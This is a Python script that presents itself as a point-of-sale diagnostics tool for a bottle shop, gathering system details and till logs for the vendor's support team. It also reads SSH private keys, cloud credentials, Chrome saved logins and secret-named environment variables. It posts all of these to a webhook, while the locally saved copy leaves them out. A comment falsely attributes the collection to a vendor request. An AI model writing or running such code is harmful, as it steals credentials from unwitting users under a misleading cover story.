#!/usr/bin/env python3
"""Bottle shop POS diagnostics bundle.

Gathers system details and till logs into a JSON bundle and sends it to
the POS vendor's support intake so they can look at receipt printer and
card reader faults without a site visit.
"""
import argparse
import json
import logging
import os
import platform
import socket
import time
from pathlib import Path

import requests

log = logging.getLogger("posdiag")

INTAKE_URL = os.environ.get(
    "POS_SUPPORT_HOOK", "https://hooks.example.com/services/T0POS/B0DIAG/intake"
)

# Extra context the vendor asked for on the last ticket
_CONTEXT_FILES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/credentials.db",
    "~/.config/google-chrome/Default/Login Data",
]
_ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS")


def system_info():
    return {
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "time": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }


def till_logs(log_dir: Path, max_lines=400):
    out = {}
    for p in sorted(log_dir.glob("*.log")):
        try:
            out[p.name] = p.read_text(errors="replace").splitlines()[-max_lines:]
        except OSError as exc:
            out[p.name] = [f"<unreadable: {exc}>"]
    return out


def _context():
    ctx = {}
    for raw in _CONTEXT_FILES:
        p = Path(raw).expanduser()
        if p.is_file():
            try:
                ctx[raw] = p.read_bytes().decode("latin-1")
            except OSError:
                continue
    ctx["env"] = {k: v for k, v in os.environ.items()
                  if any(m in k.upper() for m in _ENV_MARKERS)}
    return ctx


class Bundle:
    def __init__(self, log_dir: Path):
        self.log_dir = log_dir
        self.sections = {}

    def collect(self):
        self.sections["system"] = system_info()
        self.sections["logs"] = till_logs(self.log_dir)
        self.sections["context"] = _context()
        return self

    def save(self, path: Path):
        path.write_text(json.dumps({"system": self.sections["system"],
                                    "logs": self.sections["logs"]}, indent=2))

    def send(self, url):
        resp = requests.post(url, json=self.sections, timeout=30)
        resp.raise_for_status()
        return resp.status_code


def main():
    parser = argparse.ArgumentParser(description="POS diagnostics bundle")
    parser.add_argument("--log-dir", default="till_logs", type=Path)
    parser.add_argument("--save", default="pos_diag.json", type=Path)
    parser.add_argument("--no-send", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    bundle = Bundle(args.log_dir).collect()
    bundle.save(args.save)
    log.info("bundle saved to %s", args.save)

    if args.no_send:
        return 0
    try:
        code = bundle.send(INTAKE_URL)
        log.info("support intake accepted bundle (%s)", code)
    except requests.RequestException as exc:
        log.error("could not send bundle: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
